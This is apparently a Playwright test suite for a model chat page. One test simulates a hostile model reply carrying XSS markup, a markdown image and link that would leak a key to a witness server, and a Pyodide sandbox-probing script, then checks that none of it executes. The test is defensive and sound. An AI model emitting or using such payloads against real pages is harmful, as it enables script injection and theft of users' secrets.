// Models on /ask: one on this machine, one of this server, one at OpenRouter; stopped, queued, and hostile in its words.

import { endServers, following, type Heard, modelServer, stream } from "../../unit/ask/servers";
import { call, expect, KEY, test } from "../desk";
import { belljar, end } from "../server";

test.describe.configure({ mode: "serial" });
test.beforeAll(({ desk }) => desk.home());
test.afterAll(async () => {
  await endServers();
  await end();
});

test("who has a model on this machine sees whether it runs, and which there are", async ({ desk }) => {
  const cors = { "access-control-allow-origin": "*", "access-control-allow-headers": "*" };
  const models = JSON.stringify({ data: [{ id: "small:1b" }, { id: "large:70b" }] });
  const { base } = await modelServer((response) => {
    response.writeHead(200, { "content-type": "application/json", ...cors }).end(models);
  });
  await desk.get("model-chip").click();
  await desk.get("model-ollama").check();
  await desk.get("model-name").fill("");
  await desk.get("model-base").fill(`${base}/v1`);
  await desk.get("model-base").blur();
  await expect(desk.get("model-found")).toContainText("Ollama runs at");
  await expect(desk.get("model-name")).toHaveValue("small:1b");
  await desk.page.keyboard.press("Escape");
});

test("Stop ends a question at any moment, and the one that waited has its turn", async ({ desk }) => {
  await desk.fresh();
  const { base } = await modelServer((response, number) => {
    if (number > 0) return following("chat", [{ say: "The second." }])(response, 0, {} as Heard);
    stream(response).write('data: {"choices":[{"delta":{"content":"Well"}}]}\n\n');
  });
  await desk.model(base);
  await desk.ask("First?");
  await expect(desk.get("said")).toHaveText("Well");
  await expect(desk.get("going")).toContainText(/step 1 of 12 · [\d,]+ of 200,000 tokens · .* of 5 min/);
  await desk.ask("Second?");
  await expect(desk.get("waiting")).toContainText("Second?");
  await desk.get("stop").click();
  await expect(desk.get("ended").first()).toContainText("You stopped it.");
  await expect(await desk.answer(1)).toContainText("The second.");
});

test("what a model writes is text: no element, no request, no link before it was seen; the same words as markup would", async ({
  desk,
}) => {
  await desk.fresh();
  const witness = await modelServer((response) => void response.writeHead(204).end());
  const markup = `<img src="${witness.base}/img" onerror="document.title='owned'"><script>document.title='owned'</script>`;
  const hostile = `${markup}\n\n![a](${witness.base}/md) [click](javascript:document.title='owned') [data](${witness.base}/?${KEY})`;
  const reach = `found = []
for name in ("localStorage", "parent", "top", "document", "opener"):
    try:
        import js
        getattr(js, name).toString
        found.append(name)
    except Exception:
        pass
try:
    from pyodide.http import pyfetch
    await pyfetch("${witness.base}/code")
    found.append("network")
except Exception:
    pass
print("reached:", found)`;
  const moves = [{ say: hostile, ...call(reach, markup) }, { say: hostile }];
  const { base } = await modelServer(following("chat", moves));
  await desk.model(base);
  await desk.ask(`Look: ${markup}`);
  const answer = await desk.answer();
  await expect(answer).toContainText("<script>");
  await expect(desk.get("step").first()).toContainText("reached: []");
  expect(await desk.page.title()).not.toBe("owned");
  expect(
    await desk.page.locator("main :is(script, a[href], img:not([src^='blob:']):not([src*='static/']))").count(),
  ).toBe(1);
  expect(witness.heard).toEqual([]);
  // The link shows where it leads, with the key-like words in it, and nothing is asked for before a press there.
  await answer.getByTestId("address").click();
  await expect(desk.get("address-full")).toContainText(`${witness.base}/?${KEY}`);
  await desk.page.keyboard.press("Escape");
  expect(witness.heard).toEqual([]);
  // The control: as markup, in a page without these headers, the same words do ask.
  const bare = await desk.page.context().newPage();
  await bare.setContent(hostile);
  await expect.poll(() => witness.heard.map(({ url }) => url)).toContain("/img");
  await expect(bare).toHaveTitle("owned");
  await bare.close();
  // And the page itself can reach the witness: what was refused above was the code.
  expect(
    await desk.page.evaluate(
      (url) =>
        fetch(url, { mode: "no-cors" }).then(
          () => true,
          () => false,
        ),
      `${witness.base}/page`,
    ),
  ).toBe(true);
  expect(witness.heard.map(({ url }) => url)).toContain("/page");
});

test("a server's own model needs no choice; at OpenRouter one signs in, and the code counts for the tab that went", async ({
  desk,
}) => {
  const { base, heard } = await modelServer(following("chat", [{ say: "From the server." }]));
  const own = await belljar(
    "--model-url",
    `${base}/v1`,
    "--model-names",
    "ours",
    "--model-hosts",
    "https://openrouter.ai",
  );
  const { page } = desk;
  await page.goto(`${own}/ask`);
  await expect(desk.get("model-chip")).toHaveText("ours");
  await desk.ask("Who are you?");
  await expect(await desk.answer()).toContainText("From the server.");
  expect(heard).toHaveLength(1);
  let asked: { code?: string; code_verifier?: string } = {};
  await page.route("https://openrouter.ai/**", async (route) => {
    const url = new URL(route.request().url());
    const back = url.searchParams.get("callback_url");
    if (back) return route.fulfill({ status: 302, headers: { location: `${back}?code=once` } });
    asked = (route.request().postDataJSON() ?? {}) as typeof asked;
    const headers = { "access-control-allow-origin": "*", "access-control-allow-headers": "*" };
    return route.fulfill({ json: { key: KEY }, headers });
  });
  // A code that nobody here has asked for is dropped.
  await page.goto(`${own}/ask?code=planted`);
  await expect(page).toHaveURL(`${own}/ask`);
  expect(asked).toEqual({});
  await desk.get("model-chip").click();
  await desk.get("model-openrouter").check();
  await desk.get("model-sign-in").click();
  await expect(desk.get("model-key")).toHaveValue(KEY);
  await expect(page).toHaveURL(`${own}/ask`);
  expect(asked.code).toBe("once");
  expect(asked.code_verifier?.length).toBeGreaterThan(40);
});
